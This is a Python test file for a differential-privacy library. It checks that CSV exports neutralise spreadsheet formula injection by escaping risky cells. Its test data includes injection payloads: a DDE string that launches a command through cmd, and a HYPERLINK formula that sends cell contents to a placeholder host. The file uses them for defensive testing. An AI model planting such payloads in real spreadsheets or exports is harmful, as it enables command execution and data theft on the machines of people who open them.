"""What a spreadsheet opens: texts stay texts, whatever they begin with, and numbers stay numbers."""

import csv
import io
import re

import pandas as pd
import pytest

import pydpstat as dp
from pydpstat import Budget, Guarantee
from pydpstat._files import format_csv_cell
from tests.sample_results import parts

FORMULAS = [
    '=HYPERLINK("http://a.example/?"&A1, "more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1, 2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠A1",
    "-x",
    "+49 30 1",
]
TEXTS = ["", "age", "a=b", "a - b", "'tis", "a, b", 'a "b"', "-", "=", "[18, 90]", "(-1, 2]", "' =", "é"]
NUMBERS = ["-1.5", "+2", "-1e-300", "-inf", "0", "-0.0", "-4"]
# what a spreadsheet takes for a formula; a sign alone, or a number, is none
RUNS = re.compile(r"[\t\r\n]|\s*[=+\-@＝＋－＠]\s*\S")


def runs(text):
    try:
        float(text)
    except ValueError:
        return RUNS.match(text) is not None
    return False


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def one(text):
    [[found]] = rows_of(format_csv_cell(text))
    return found


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text_with_an_apostrophe(text):
    assert runs(text) and one(text) == f"'{text}"


@pytest.mark.parametrize("text", [text for text in (*TEXTS, *NUMBERS) if text])
def test_other_texts_and_numbers_are_as_they_were(text):
    assert not runs(text) and one(text) == text


def test_numbers_are_as_python_prints_them():
    found = [format_csv_cell(each) for each in (-1.5, -3, 1 / 3, -float("inf"), None, "")]
    assert found == ["-1.5", "-3", "0.3333333333333333", "-inf", "", ""]


@pytest.mark.parametrize("text", [*FORMULAS, *TEXTS[1:], *NUMBERS])
def test_a_reader_can_take_the_apostrophe_away(text):
    """Also from texts that had apostrophes before: the rule that `to_csv` states."""
    for given in (text, f"'{text}", f"''{text}"):
        found = one(given)
        read = found[1:] if found.startswith("'") and runs(found.lstrip("'")) else found
        assert read == given


@pytest.fixture
def budget():
    made = Budget(10.0, unit="=1+1")
    for text in FORMULAS:
        made.spend(Guarantee(0.1, unit="=1+1", conditions=(text,)), f"{text})", label=text)
    return made


def test_a_ledger_has_no_formulas(budget):
    head, *rows = rows_of(budget.to_csv())
    assert len(rows) == len(FORMULAS) and not [each for row in rows for each in row if runs(each)]
    by_name = [dict(zip(head, row)) for row in rows]
    assert [each["label"] for each in by_name] == [f"'{text}" for text in FORMULAS]
    assert {each["unit"] for each in by_name} == {"'=1+1"}
    assert {each["epsilon"] for each in by_name} == {"0.1"}
    # what keeps every text as it is
    assert budget.to_frame()["label"].tolist() == FORMULAS == [each.label for each in budget.entries]


def test_the_pages_of_a_budget_have_no_formulas(budget):
    rows = rows_of(budget.summary().as_csv())
    assert not [each for row in rows for each in row if runs(each)]
    assert "'-2+3" in {row[0].strip() for row in rows if row}


def test_the_pages_of_releases_have_no_formulas():
    names = [text.strip() for text in FORMULAS]
    table = dp.crosstab(names, 1.0, levels=list(dict.fromkeys(names)), rng=1)
    mean = dp.mean(pd.DataFrame({"=1+1": [1, 2]}), 1.0, bounds=(-5, 5), rng=1)
    for result in (table, mean):
        rows = rows_of(result.summary().as_csv())
        assert not [each for row in rows for each in row if runs(each)]
    found = {row[0].strip(): row[1:] for row in rows_of(table.summary().as_csv()) if row}
    assert float(found["'@SUM(1, 2)"][0]) == table.params["@SUM(1, 2)"]


def test_every_release_is_a_page_without_formulas(release):
    for each in parts(release()):
        rows = rows_of(each.summary().as_csv())
        assert not [text for row in rows for text in row if runs(text)]
